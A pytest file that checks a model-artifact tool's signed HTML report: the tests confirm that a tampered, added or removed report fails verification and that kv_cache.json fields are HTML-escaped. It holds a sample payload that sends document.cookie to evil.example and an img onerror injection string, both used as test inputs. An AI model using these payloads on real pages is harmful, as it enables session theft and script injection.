"""Issue 24, cases 4 and 5: tfcompile/report.html is covered by verify and the signature (its
sha256 in the manifest's integrity entry, so in the signed bytes); kv_cache.json reaches the
page escaped."""

from __future__ import annotations

import hashlib
import json

import pytest

from safety_helpers import private_copy, quantize_to

REPORT = "tfcompile/report.html"
EVIL = "<html><body><script>fetch('https://evil.example/'+document.cookie)</script></body></html>"




@pytest.fixture
def signed_report(tiny_llama, tmp_path, ed25519_keys):
    return quantize_to(tiny_llama, tmp_path / "art", "--report", "--sign", ed25519_keys[0])


def _checks(run_cli, art, *extra):
    res = run_cli("verify", art, "--json", *extra)
    return res, {c["check"]: c for c in json.loads(res.out)["checks"]}


def test_a_built_report_verifies_with_and_without_the_key(signed_report, run_cli, ed25519_keys):
    for extra in ((), ("--public-key", ed25519_keys[1])):
        res, checks = _checks(run_cli, signed_report, *extra)
        assert res.code == 0 and checks["report"]["ok"], res.out


@pytest.mark.parametrize("key", [False, True])
def test_a_replaced_report_fails_verify(signed_report, run_cli, ed25519_keys, key):
    (signed_report / REPORT).write_text(EVIL)
    res, checks = _checks(run_cli, signed_report, *(("--public-key", ed25519_keys[1]) if key else ()))
    assert res.code == 1 and not checks["report"]["ok"], res.out
    assert "tfcompile/report.html" in checks["report"]["detail"] and "sha256" in checks["report"]["detail"]


def test_a_report_added_to_a_signed_artifact_fails_verify(tiny_llama, tmp_path, run_cli, ed25519_keys):
    art = quantize_to(tiny_llama, tmp_path / "art", "--sign", ed25519_keys[0])
    (art / REPORT).write_text(EVIL)
    res, checks = _checks(run_cli, art, "--public-key", ed25519_keys[1])
    assert res.code == 1 and "not recorded in the manifest" in checks["report"]["detail"], res.out


def test_a_removed_report_fails_verify(signed_report, run_cli):
    (signed_report / REPORT).unlink()
    res, checks = _checks(run_cli, signed_report)
    assert res.code == 1 and "missing" in checks["report"]["detail"], res.out


def test_sign_refuses_an_injected_report(tiny_llama, tmp_path, run_cli, ed25519_keys):
    art = quantize_to(tiny_llama, tmp_path / "art")
    (art / REPORT).write_text(EVIL)
    res = run_cli("sign", art, "--key", ed25519_keys[0])
    assert res.code == 1 and "report" in res.err and "not signed" in res.err and "hint: " in res.err, res.err
    assert not (art / "tfcompile/manifest.sig").exists()


def test_the_signature_covers_the_report_through_the_manifest_bytes(signed_report):
    """The signed bytes (the manifest file) hold the page's sha256: the oracle is hashlib on disk."""
    manifest = json.loads((signed_report / "tfcompile/manifest.json").read_bytes())
    page = (signed_report / REPORT).read_bytes()
    assert manifest["integrity"]["report_sha256"] == hashlib.sha256(page).hexdigest()
    sig = json.loads((signed_report / "tfcompile/manifest.sig").read_bytes())
    assert sig["manifest_sha256"] == hashlib.sha256((signed_report / "tfcompile/manifest.json").read_bytes()).hexdigest()


def test_tune_rewrites_the_report_it_made_stale(signed_report, run_cli):
    assert run_cli("tune", signed_report, "--no-measure", "-q").code == 0
    res, checks = _checks(run_cli, signed_report)
    assert res.code == 0 and checks["report"]["ok"], res.out
    digest = json.loads((signed_report / "tfcompile/manifest.json").read_bytes())["integrity"]["sha256"]
    assert digest in (signed_report / REPORT).read_text()  # the page shows the new manifest


def test_kv_cache_descriptor_fields_are_escaped(tiny_llama, tmp_path, run_cli):
    """Case 5: every kv_cache.json field reaches the page escaped (block_size and tp were not)."""
    art = private_copy(quantize_to(tiny_llama, tmp_path / "art"), tmp_path / "hostile")
    hostile = {"engine": "vllm", "dtype": "fp8", "layout": "NHD", "rope": "neox",
               "block_size": '<img src=x onerror="alert(1)">', "tp": "<b>2</b>"}
    (art / "tfcompile" / "kv_cache.json").write_text(json.dumps(hostile))
    res = run_cli("report", art, "-o", tmp_path / "r.html")
    assert res.code == 0, res.err
    html = (tmp_path / "r.html").read_text()
    assert "<img" not in html and "<b>2</b>" not in html
    assert "&lt;img src=x onerror=&quot;alert(1)&quot;&gt;" in html and "&lt;b&gt;2&lt;/b&gt;" in html
